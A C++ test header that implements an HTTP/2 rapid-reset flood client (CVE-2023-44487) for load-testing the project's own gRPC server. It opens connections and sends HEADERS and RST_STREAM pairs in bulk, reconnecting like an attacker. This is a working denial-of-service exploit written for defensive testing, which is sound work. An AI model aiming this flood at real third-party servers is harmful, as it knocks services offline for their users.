// An HTTP/2 rapid-reset client (the CVE-2023-44487 pattern) for the flood
// test and benchmark: one cleartext HTTP/2 connection (prior knowledge, as
// gRPC's insecure channels use) on which it opens a gRPC stream with a HEADERS
// frame and cancels it with RST_STREAM at once, as fast as the socket takes
// them, never waiting for an answer. It speaks just enough HTTP/2 to stay
// connected (SETTINGS and PING acknowledgements) and counts what the peer
// does about it. gRPC's own client cannot do this: it paces itself.
//
//   RapidResetTarget target;
//   target.port = 50051;
//   RapidResetResult r = RunRapidReset(target, std::chrono::seconds(8));
//
// POSIX only; header-only so any test binary can include it.
#ifndef MAPD_TESTS_COMMON_RAPID_RESET_H_
#define MAPD_TESTS_COMMON_RAPID_RESET_H_

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

namespace mapd::testing {

struct RapidResetTarget {
  std::string host = "127.0.0.1";  // IPv4 literal
  int port = 0;
  std::string source_host;  // bind to this IPv4 address first (empty: any)
  std::string path = "/mapserver.v1.MapService/Ingest";
};

struct RapidResetResult {
  long connections = 0;      // TCP connections made
  long failed_connects = 0;  // connect() refused
  long closed_by_peer = 0;   // connections the peer closed before the end
  long streams = 0;          // HEADERS + RST_STREAM pairs written, on all connections
  long most_streams_on_one_connection = 0;
  long resets_received = 0;  // RST_STREAM frames from the peer
  long goaways = 0;          // GOAWAY frames from the peer
  double seconds = 0;
};

namespace rapid_reset_internal {

enum : uint8_t { kHeaders = 1, kRstStream = 3, kSettings = 4, kPing = 6, kGoaway = 7 };

inline void AppendFrame(std::string* out, uint8_t type, uint8_t flags, uint32_t stream,
                        const std::string& payload) {
  const uint32_t n = static_cast<uint32_t>(payload.size());
  const char header[9] = {static_cast<char>(n >> 16),
                          static_cast<char>(n >> 8),
                          static_cast<char>(n),
                          static_cast<char>(type),
                          static_cast<char>(flags),
                          static_cast<char>(stream >> 24),
                          static_cast<char>(stream >> 16),
                          static_cast<char>(stream >> 8),
                          static_cast<char>(stream)};
  out->append(header, 9);
  out->append(payload);
}

// HPACK "literal header field without indexing, new name", no Huffman
// (RFC 7541 6.2.2); every string here is shorter than 127 bytes.
inline std::string HeaderBlock(const std::string& path, const std::string& authority) {
  const std::vector<std::pair<std::string, std::string>> fields = {
      {":method", "POST"},
      {":scheme", "http"},
      {":path", path},
      {":authority", authority},
      {"content-type", "application/grpc"},
      {"te", "trailers"}};
  std::string block;
  for (const auto& [name, value] : fields) {
    block += '\0';
    block += static_cast<char>(name.size());
    block += name;
    block += static_cast<char>(value.size());
    block += value;
  }
  return block;
}

// Writes all of `bytes`, or gives up at `deadline` (the socket has a send
// timeout, so a peer that stops reading cannot hold the flood past its end).
inline bool WriteAll(int fd, const std::string& bytes,
                     std::chrono::steady_clock::time_point deadline) {
  for (size_t done = 0; done < bytes.size();) {
    const ssize_t n = send(fd, bytes.data() + done, bytes.size() - done, MSG_NOSIGNAL);
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR) &&
        std::chrono::steady_clock::now() < deadline)
      continue;
    if (n <= 0) return false;
    done += static_cast<size_t>(n);
  }
  return true;
}

inline bool ReadExactly(int fd, char* buf, size_t n) {
  for (size_t done = 0; done < n;) {
    const ssize_t got = read(fd, buf + done, n - done);
    if (got <= 0) return false;
    done += static_cast<size_t>(got);
  }
  return true;
}

// One connection's flood until `deadline` or until the peer closes it.
struct ConnectionFlood {
  bool connected = false;
  long streams = 0, resets_received = 0, goaways = 0;
  bool closed_by_peer = false;
};

inline ConnectionFlood FloodConnection(const RapidResetTarget& target,
                                       std::chrono::steady_clock::time_point deadline) {
  ConnectionFlood result;
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return result;
  const int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
  const timeval send_timeout{0, 100 * 1000};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &send_timeout, sizeof send_timeout);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  if (!target.source_host.empty()) {
    inet_pton(AF_INET, target.source_host.c_str(), &addr.sin_addr);
    if (bind(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof addr) != 0) {
      close(fd);
      return result;
    }
  }
  addr.sin_port = htons(static_cast<uint16_t>(target.port));
  inet_pton(AF_INET, target.host.c_str(), &addr.sin_addr);
  if (connect(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof addr) != 0) {
    close(fd);
    return result;
  }
  result.connected = true;

  std::mutex write_mu;  // the reader's acknowledgements and the flood share the socket
  std::atomic<bool> closed{false};
  std::atomic<long> resets{0}, goaways{0};
  std::string opening = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  AppendFrame(&opening, kSettings, 0, 0, "");
  if (!WriteAll(fd, opening, deadline)) closed = true;

  std::thread reader([&] {
    char header[9];
    std::string payload;
    while (ReadExactly(fd, header, 9)) {
      const auto u = [&](int i) { return static_cast<uint32_t>(static_cast<uint8_t>(header[i])); };
      const uint32_t length = u(0) << 16 | u(1) << 8 | u(2);
      const uint8_t type = static_cast<uint8_t>(header[3]), flags = static_cast<uint8_t>(header[4]);
      payload.resize(length);
      if (length > 0 && !ReadExactly(fd, payload.data(), length)) break;
      std::string reply;
      if (type == kSettings && !(flags & 1)) AppendFrame(&reply, kSettings, 1, 0, "");
      if (type == kPing && !(flags & 1)) AppendFrame(&reply, kPing, 1, 0, payload);
      if (type == kRstStream) ++resets;
      if (type == kGoaway) ++goaways;
      if (!reply.empty()) {
        std::lock_guard<std::mutex> lock(write_mu);
        WriteAll(fd, reply, std::chrono::steady_clock::now() + std::chrono::seconds(1));
      }
    }
    closed = true;
  });

  // Pairs go out 64 at a time: one write per chunk keeps the client cheap, so
  // the rate is set by what the peer reads.
  const std::string headers = HeaderBlock(target.path, target.host);
  const std::string cancel = {0, 0, 0, 8};  // error code CANCEL
  uint32_t stream = 1;
  std::string chunk;
  while (!closed && std::chrono::steady_clock::now() < deadline && stream < 0x7fff0000u) {
    chunk.clear();
    for (int i = 0; i < 64; ++i, stream += 2) {
      AppendFrame(&chunk, kHeaders, 0x4 /* END_HEADERS */, stream, headers);
      AppendFrame(&chunk, kRstStream, 0, stream, cancel);
    }
    std::lock_guard<std::mutex> lock(write_mu);
    if (!WriteAll(fd, chunk, deadline)) break;
    result.streams += 64;
  }
  // Closed by the peer: the reader saw the end, or a write failed before the
  // deadline (a reset connection).
  result.closed_by_peer = closed || std::chrono::steady_clock::now() < deadline;
  shutdown(fd, SHUT_RDWR);
  reader.join();
  close(fd);
  result.resets_received = resets;
  result.goaways = goaways;
  return result;
}

}  // namespace rapid_reset_internal

// Floods `target` for `duration`, reconnecting at once whenever the peer
// closes the connection (as an attacker would). Returns what was sent and
// what came back.
inline RapidResetResult RunRapidReset(const RapidResetTarget& target,
                                      std::chrono::duration<double> duration) {
  RapidResetResult result;
  const auto start = std::chrono::steady_clock::now();
  const auto deadline = start + std::chrono::duration_cast<std::chrono::nanoseconds>(duration);
  while (std::chrono::steady_clock::now() < deadline) {
    const rapid_reset_internal::ConnectionFlood c =
        rapid_reset_internal::FloodConnection(target, deadline);
    if (!c.connected) {
      ++result.failed_connects;
      std::this_thread::sleep_for(std::chrono::milliseconds(1));
      continue;
    }
    ++result.connections;
    result.streams += c.streams;
    result.resets_received += c.resets_received;
    result.goaways += c.goaways;
    if (c.closed_by_peer) ++result.closed_by_peer;
    if (c.streams > result.most_streams_on_one_connection)
      result.most_streams_on_one_connection = c.streams;
  }
  result.seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  return result;
}

}  // namespace mapd::testing

#endif  // MAPD_TESTS_COMMON_RAPID_RESET_H_
